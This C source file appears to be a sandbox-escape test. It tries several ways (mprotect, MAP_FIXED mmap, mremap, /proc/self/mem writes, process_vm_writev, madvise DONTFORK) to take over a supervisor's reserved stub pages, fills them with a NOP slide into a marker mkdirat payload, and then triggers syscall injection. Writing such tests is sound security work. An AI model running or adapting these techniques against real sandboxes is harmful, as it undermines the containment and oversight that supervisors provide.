/*
 * Tamper with the supervisor's reserved range (the stub at 0x7e0000000000,
 * the park page after it): usage stub_tamper MODE MARKER. Each way of making
 * its pages ours is tried on every page of the stub's 64 KiB, and each page
 * we get is filled with a slide into mkdirat(MARKER); then we set off every
 * kind of injection we know: a file mmap, brk growth, a fork and an exec.
 */
#include "attack.h"
#include <sys/uio.h>
#include <sys/wait.h>

#define STUB 0x7e0000000000UL
#define STUB_SIZE 0x10000UL
#define PAGE 4096UL

static const char *marker;

/* A page of nops ending in the payload: wherever the supervisor jumps in, we run. */
static void fill(uint8_t *p)
{
    memset(p, 0x90, PAGE);
    put_mkdir_payload(p + PAGE - 64, marker, 0);
}

/* One way of taking page pg; returns 0 when the page is now ours (and filled). */
static int take(const char *mode, uint8_t *pg)
{
    static uint8_t buf[PAGE];
    int rwx = PROT_READ | PROT_WRITE | PROT_EXEC;
    long r = -1;
    fill(buf);
    if (!strcmp(mode, "mprotect"))
        r = mprotect(pg, PAGE, rwx);
    else if (!strcmp(mode, "pkey_mprotect"))
        r = syscall(SYS_pkey_mprotect, pg, PAGE, rwx, 0);
    else if (!strcmp(mode, "mmap_fixed"))
        r = mmap(pg, PAGE, rwx, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == pg ? 0 : -1;
    else if (!strcmp(mode, "munmap_then_map")) {
        r = munmap(pg, PAGE);
        if (r == 0)
            r = mmap(pg, PAGE, rwx, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) == pg ? 0 : -1;
    } else if (!strcmp(mode, "mremap")) {
        uint8_t *src = mmap(NULL, PAGE, rwx, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        fill(src);
        return mremap(src, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, pg) == pg ? 0 : -1;
    } else if (!strcmp(mode, "proc_self_mem")) {
        int fd = open("/proc/self/mem", O_RDWR);
        r = fd >= 0 && pwrite(fd, buf, PAGE, (off_t)pg) == PAGE ? 0 : -1;
        close(fd);
        return r;
    } else if (!strcmp(mode, "process_vm_writev")) {
        struct iovec local = { buf, PAGE }, remote = { pg, PAGE };
        return process_vm_writev(getpid(), &local, 1, &remote, 1, 0) == PAGE ? 0 : -1;
    }
    if (r == 0)
        fill(pg);
    return r;
}

/* Every kind of host syscall injection we can cause. */
static void trigger(void)
{
    int fd = open("/etc/passwd", O_RDONLY);
    mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd, 0);
    long brk = syscall(SYS_brk, 0);
    syscall(SYS_brk, brk + (1 << 20));
    pid_t pid = fork();
    if (pid == 0) {
        mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd, 0);
        execl("/bin/true", "true", (char *)NULL);
        _exit(127);
    }
    waitpid(pid, NULL, 0);
}

int main(int argc, char **argv)
{
    const char *mode = argv[1];
    marker = argv[2];
    handshake("before");
    if (!strcmp(mode, "madvise_dontfork")) {
        /* the child would have no stub: map our own at its address */
        long r = madvise((void *)STUB, 0x20000, MADV_DONTFORK);
        pid_t pid = fork();
        if (pid == 0) {
            for (unsigned long a = STUB; a < STUB + STUB_SIZE; a += PAGE) {
                uint8_t *p = mmap((void *)a, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
                                  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
                if (p == (uint8_t *)a)
                    fill(p);
            }
            handshake("after");
            trigger();
            _exit(0);
        }
        fprintf(stderr, "madvise: %ld\n", r);
        waitpid(pid, NULL, 0);
        return 0;
    }
    int taken = 0;
    for (unsigned long a = STUB; a < STUB + STUB_SIZE; a += PAGE)
        taken += take(mode, (uint8_t *)a) == 0;
    fprintf(stderr, "%s: %d stub pages taken\n", mode, taken);
    handshake("after");
    trigger();
    return 0;
}
